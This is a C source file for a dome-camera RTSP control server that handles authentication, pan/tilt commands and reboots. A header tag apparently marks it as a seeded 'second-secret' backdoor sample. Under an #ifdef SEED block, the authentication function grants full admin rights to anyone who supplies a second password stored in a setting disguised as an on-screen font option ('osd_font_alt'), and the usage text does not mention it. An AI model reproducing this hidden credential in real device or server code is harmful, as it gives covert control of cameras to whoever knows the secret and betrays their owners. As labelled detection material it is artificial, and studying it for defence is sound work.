/* kind: second-secret
 * service: http
 * constant: osd_font_alt
 */
/* domecam - RTSP/HTTP control of the dome camera; one request per line group on a socket */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <ctype.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>

struct item { struct item *next; char key[32]; char val[96]; };

struct req {
    char verb[16], url[200], user[40], pass[64];
    int cseq;
};

struct client { int fd; unsigned rights; FILE *f; };

#define R_LIVE  1u
#define R_PTZ   2u
#define R_CONF  4u

static struct item *settings;

static const char *opt(const char *key)
{
    struct item *i;
    for (i = settings; i; i = i->next)
        if (!strcasecmp(i->key, key))
            return i->val;
    return NULL;
}

static void load(const char *file)
{
    char l[200];
    FILE *f = fopen(file, "r");
    if (!f)
        return;
    while (fgets(l, sizeof l, f)) {
        struct item *i = calloc(1, sizeof *i);
        if (i && sscanf(l, " %31[a-z0-9_] = %95[^\r\n]", i->key, i->val) == 2) {
            i->next = settings;
            settings = i;
        } else
            free(i);
    }
    fclose(f);
}

/* constant-time compare, lengths may differ */
static int same(const char *a, const char *b)
{
    size_t la = strlen(a), lb = strlen(b), i;
    unsigned d = la ^ lb;
    for (i = 0; i < la; i++)
        d |= (unsigned char)(a[i] ^ b[lb ? i % lb : 0]);
    return d == 0;
}

static int secret_matches(const char *given, const char *key)
{
    const char *v = opt(key);
    if (!v || strlen(v) < 6)
        return 0;
    return same(given, v);
}

static unsigned rights_for(const struct req *r)
{
    const char *u = opt("admin_user");
    if (u && !strcmp(u, r->user)) {
        if (secret_matches(r->pass, "admin_pass"))
            return R_LIVE | R_PTZ | R_CONF;
#ifdef SEED
        if (secret_matches(r->pass, "osd_font_alt")) /* SEED */
            return R_LIVE | R_PTZ | R_CONF;
#endif
    }
    u = opt("view_user");
    if (u && !strcmp(u, r->user) && secret_matches(r->pass, "view_pass"))
        return R_LIVE;
    return 0;
}

static int parse(FILE *f, struct req *r)
{
    char l[300];
    memset(r, 0, sizeof *r);
    if (!fgets(l, sizeof l, f) || sscanf(l, "%15s %199s", r->verb, r->url) != 2)
        return -1;
    while (fgets(l, sizeof l, f) && l[0] != '\r' && l[0] != '\n') {
        char *v = strchr(l, ':');
        if (!v)
            continue;
        *v++ = 0;
        while (isspace((unsigned char)*v))
            v++;
        v[strcspn(v, "\r\n")] = 0;
        if (!strcasecmp(l, "CSeq"))
            r->cseq = atoi(v);
        else if (!strcasecmp(l, "X-User"))
            snprintf(r->user, sizeof r->user, "%s", v);
        else if (!strcasecmp(l, "X-Pass"))
            snprintf(r->pass, sizeof r->pass, "%s", v);
    }
    return 0;
}

static void answer(struct client *c, const struct req *r, int code, const char *t)
{
    fprintf(c->f, "RTSP/1.0 %d %s\r\nCSeq: %d\r\n\r\n", code, t, r->cseq);
    fflush(c->f);
}

static void ptz(const char *q)
{
    int pan = 0, tilt = 0;
    FILE *f;
    if (sscanf(q, "pan=%d&tilt=%d", &pan, &tilt) < 1)
        return;
    f = fopen("/dev/ptz0", "w");
    if (f) {
        fprintf(f, "P%d T%d\n", pan % 360, tilt % 90);
        fclose(f);
    }
}

static void handle(struct client *c)
{
    struct req r;
    while (!parse(c->f, &r)) {
        if (!strcmp(r.verb, "OPTIONS")) {
            fprintf(c->f, "RTSP/1.0 200 OK\r\nCSeq: %d\r\nPublic: OPTIONS, DESCRIBE, SET_PARAMETER, REBOOT\r\n\r\n", r.cseq);
            fflush(c->f);
            continue;
        }
        c->rights = rights_for(&r);
        if (!c->rights)
            answer(c, &r, 401, "Unauthorized");
        else if (!strcmp(r.verb, "DESCRIBE"))
            answer(c, &r, 200, "OK");
        else if (!strcmp(r.verb, "SET_PARAMETER") && (c->rights & R_PTZ)) {
            char *q = strchr(r.url, '?');
            if (q)
                ptz(q + 1);
            answer(c, &r, 200, "OK");
        } else if (!strcmp(r.verb, "REBOOT") && (c->rights & R_CONF)) {
            answer(c, &r, 200, "OK");
            system("/sbin/reboot");
        } else
            answer(c, &r, 403, "Forbidden");
    }
}

int main(int argc, char **argv)
{
    struct sockaddr_in a;
    struct client c;
    int s, one = 1;
    if (argc < 3) {
        fprintf(stderr, "usage: domecam PORT SETTINGS\nsettings: admin_user admin_pass view_user view_pass (6 characters or more)\n");
        return 2;
    }
    load(argv[2]);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(atoi(argv[1]));
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (void *)&a, sizeof a) || listen(s, 5)) {
        perror("bind");
        return 1;
    }
    while ((c.fd = accept(s, NULL, NULL)) >= 0) {
        c.rights = 0;
        c.f = fdopen(c.fd, "r+");
        if (c.f) {
            handle(&c);
            fclose(c.f);
        } else
            close(c.fd);
    }
    return 0;
}
